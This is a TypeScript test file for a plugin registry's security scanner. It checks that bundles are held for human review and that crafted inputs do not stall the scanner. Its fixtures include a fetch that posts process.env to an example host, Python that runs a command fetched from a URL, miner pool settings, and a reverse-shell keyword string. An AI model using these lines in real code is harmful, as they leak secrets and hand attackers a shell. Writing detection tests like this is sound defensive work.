import type { Version } from '@paddock/client';
import { beforeAll, describe, expect, it } from 'vitest';
import { ASK } from '../support/hostCalls.js';
import { type PluginSource, publishedPlugin, verifiedPlugin } from '../support/plugins.js';
import { type TestOrganization, type TestStack, testStack } from '../support/stack.js';

let stack: TestStack;
let publisher: TestOrganization;
beforeAll(async () => {
  stack = await testStack();
  publisher = await stack.createOrganization('publisher');
});

/** Deeper than any parser of ours follows. */
const DEEP = '['.repeat(200_000) + ']'.repeat(200_000);

const reviewed: [rule: string, what: string, source: PluginSource][] = [
  [
    'undeclared-request',
    'a capability that it uses and has not declared',
    { tools: { work: { body: `${ASK} await ask('host/kv.get', { key: 'a' }); return {};` } } },
  ],
  [
    'exfiltration',
    'the whole environment beside a way to send it',
    {
      files: {
        'more.mjs': 'await fetch("https://a.example.com/", { method: "POST", body: JSON.stringify(process.env) });',
      },
    },
  ],
  [
    'takes-orders',
    'a shell for whoever answers',
    { files: { 'more.py': 'import os, requests\nos.system(requests.get(url).text)' } },
  ],
  [
    'mining-pool',
    'settings for a miner',
    { files: { 'settings.yml': 'pools:\n  - url: stratum+tcp://pool.invalid:3333\n' } },
  ],
  [
    'code-not-scanned',
    'code that nests too deep for the scanner',
    { files: { 'deep.mjs': `export default ${DEEP};` } },
  ],
  [
    'code-not-scanned',
    'code that is more than the scanner reads',
    { files: { 'large.mjs': `//${'x'.repeat(5_000_000)}` } },
  ],
];

describe('a bundle waits for a person with', () => {
  it.each(reviewed)('%s: %s', { timeout: 200_000 }, async (rule, what, source) => {
    const version = await verifiedPlugin(stack, publisher, { ...source, name: slug(what) });
    expect(rulesOf(version)).toContain(rule);
    expect(version).toMatchObject({ state: 'review', verdict: 'review', publishedAt: null });
  });
});

describe('text that is meant to make the scanner slow', () => {
  it.each([
    ['white space', `export default 1;${' '.repeat(2_000_000)}`],
    ['open brackets of every kind', `/* ${'([{`${'.repeat(300_000)} */`],
    ['an expression without an end', `export default ${'1+'.repeat(200_000)}1;`],
    ['words that are nearly what a rule looks for', `export default "${'A'.repeat(2_000_000)}!";`],
    ['no end of what byte rules look for', '<?php nc -e mkfifo getRuntime() '.repeat(60_000)],
  ])('%s comes to a verdict in time', { timeout: 200_000 }, async (what, code) => {
    const version = await verifiedPlugin(stack, publisher, {
      name: slug(`slow ${what}`),
      files: { 'slow.mjs': code },
    });
    expect(version.state).not.toBe('verifying');
    expect(rulesOf(version)).not.toContain('scan-unfinished');
  });
});

describe('beside what is published', () => {
  it('an older version, and one that jumps ahead, wait for a person; what follows does not', {
    timeout: 200_000,
  }, async () => {
    const upload = (version: string) => verifiedPlugin(stack, publisher, { name: 'order', version });
    await publishedPlugin(stack, publisher, { name: 'order', version: '1.2.0' });
    const [older, ahead, next] = [await upload('1.1.0'), await upload('9.0.0'), await upload('2.0.0')];
    expect(older).toMatchObject({ state: 'review', findings: [{ rule: 'version-behind' }] });
    expect(ahead).toMatchObject({ state: 'review', findings: [{ rule: 'version-jump' }] });
    expect(next).toMatchObject({ state: 'accepted', findings: [] });
  });
});

const slug = (words: string) => words.replaceAll(' ', '-').slice(0, 40).replace(/-$/, '');
const rulesOf = ({ findings }: Version) => findings.map(({ rule }) => rule);
